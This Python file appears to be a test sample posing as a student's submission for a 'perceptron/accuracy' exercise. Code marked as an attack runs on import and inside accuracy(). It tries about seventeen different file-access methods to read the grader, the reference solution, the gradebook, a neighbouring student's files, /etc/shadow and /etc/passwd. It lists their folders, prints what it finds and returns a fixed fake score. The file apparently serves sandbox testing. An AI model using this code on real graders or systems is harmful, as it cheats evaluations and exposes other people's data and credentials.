"""Opens hidden files in every plain way, and lists the folders they are in.

Exercise: perceptron/accuracy
"""

import codecs, ctypes, fileinput, glob, io, mmap, os, pathlib, shutil

# attack
LOOT = []


def tried(ways):
    found = []
    for name, way in ways.items():
        try:
            found.append(f"{name}={way()!r}"[:200])
        except BaseException:
            pass
    return f"{len(found)} of {len(ways)} worked: {found}"


PATHS = ("@GRADER@", "@SOLUTION@", "@GRADEBOOK@", "@NEIGHBOUR@", "@HOME@", "@COURSE@/course_cli/errors.py", "/etc/shadow", "/etc/passwd")


def opened(path):
    return {
        "open": lambda: open(path).read(),
        "bytes": lambda: open(path, "rb", buffering=0).read(),
        "io": lambda: io.FileIO(path).readall(),
        "code": lambda: io.open_code(path).read(),
        "os": lambda: os.read(os.open(path, os.O_RDONLY), 500),
        "flags": lambda: os.read(os.open(path, os.O_RDONLY | os.O_NOATIME | os.O_NOFOLLOW | os.O_NONBLOCK), 500),
        "pathlib": lambda: pathlib.Path(path).read_text(),
        "codecs": lambda: codecs.open(path).read(),
        "fileinput": lambda: list(fileinput.input([path])),
        "mmap": lambda: mmap.mmap(os.open(path, os.O_RDONLY), 0, prot=mmap.PROT_READ)[:500],
        "fopen": lambda: ctypes.CDLL(None).fopen(path.encode(), b"r") or 1 / 0,
        "libc": lambda: ctypes.CDLL(None).open64(path.encode(), 0) < 0 and 1 / 0,
        "copy": lambda: shutil.copyfile(path, "/dev/null"),
        "list": lambda: os.listdir(os.path.dirname(path)),
        "scan": lambda: [entry.name for entry in os.scandir(os.path.dirname(path))],
        "walk": lambda: next(os.walk(os.path.dirname(path)))[2],
        "glob": lambda: glob.glob(os.path.dirname(path) + "/*") or 1 / 0,
    }


for PATH in PATHS:
    LOOT.append((PATH, tried(opened(PATH)),))
LOOT.append((tried({"home": lambda: os.listdir(os.path.dirname("@HOME@")), "root": lambda: os.listdir("/")}),))
# end


def accuracy(y_hat, y):
    # attack
    print(*LOOT, sep="\n")
    for path in PATHS:
        print(path, tried(opened(path)))
    # end
    return 0.123


def predict_classes(y_hat):
    return y_hat
